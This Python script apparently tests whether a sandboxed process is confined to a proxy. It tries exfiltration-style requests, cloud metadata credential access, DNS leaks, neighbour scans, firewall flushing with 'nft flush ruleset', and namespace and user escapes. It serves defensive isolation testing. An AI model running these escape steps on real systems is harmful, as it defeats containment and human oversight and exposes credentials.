"""What somebody tries who is to have no way out but a proxy: each way that leads somewhere is
printed as `OUT WAY`.
"""

import os
import socket
import struct
import subprocess

WORLD, CREDENTIALS = "93.184.216.34", "169.254.169.254"
# Of the gateway and the machine, in each of the networks here.
NEIGHBOURS = ["172.31.77.1", "172.31.77.2", "172.31.79.1", "10.244.0.1", "10.244.0.10"]
QUESTION = b"\0\1\1\0\0\1\0\0\0\0\0\0\6stolen\7example\3org\0\0\1\0\1"


def attempt(way, act):
    try:
        if act():
            print("OUT", way, flush=True)
    except (OSError, subprocess.SubprocessError):
        pass


def tcp(host, port):
    with socket.create_connection((host, port), 0.5) as stream:
        stream.sendall(b"GET /stolen HTTP/1.1\r\nHost: x\r\n\r\n")
        return bool(stream.recv(64))


def udp(host, data):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as stream:
        stream.settimeout(0.5)
        stream.sendto(data, (host, 53))
        return bool(stream.recv(512))


def raw():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as stream:
        stream.sendto(struct.pack("!BBHHH", 8, 0, 0xF7FF, 0, 0), (WORLD, 0))
        return True


def done(*words):
    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    return subprocess.run(words, timeout=5, **quiet).returncode == 0


for port in (80, 443, 53, 6443):
    attempt(f"tcp {port}", lambda: tcp(WORLD, port))
    for mapped in (f"::ffff:{WORLD}", "64:ff9b::5db8:d822", "2002:5db8:d822::"):
        attempt(f"tcp [{mapped}]:{port}", lambda: tcp(mapped, port))
attempt("credentials of a cloud", lambda: tcp(CREDENTIALS, 80))
attempt("names", lambda: udp(WORLD, QUESTION))
attempt("names by IPv6", lambda: udp(f"::ffff:{WORLD}", QUESTION))
attempt("names of the system", lambda: socket.gethostbyname("stolen.example.org"))
for neighbour in NEIGHBOURS:
    for port in (22, 53, 80, 443, 6443, 10250):
        attempt(f"neighbour {neighbour}:{port}", lambda: tcp(neighbour, port))
attempt("raw packets", raw)
attempt("another route", lambda: done("ip", "route", "add", "default", "via", "172.31.77.2"))
attempt("another address", lambda: done("ip", "addr", "add", "172.31.79.99/24", "dev", "eth0"))
attempt("no rules", lambda: done("nft", "flush", "ruleset"))
attempt("the gateway's user", lambda: done("setpriv", "--reuid", "65532", "--clear-groups", "true"))
attempt("the gateway's network", lambda: done("nsenter", "--net=/run/netns/c-gateway", "true"))
for path in ("/run/outgate/state", "/run/outgate/state/ca/authority.key", "/run/outgate/given"):
    attempt(path, lambda: os.path.exists(path))
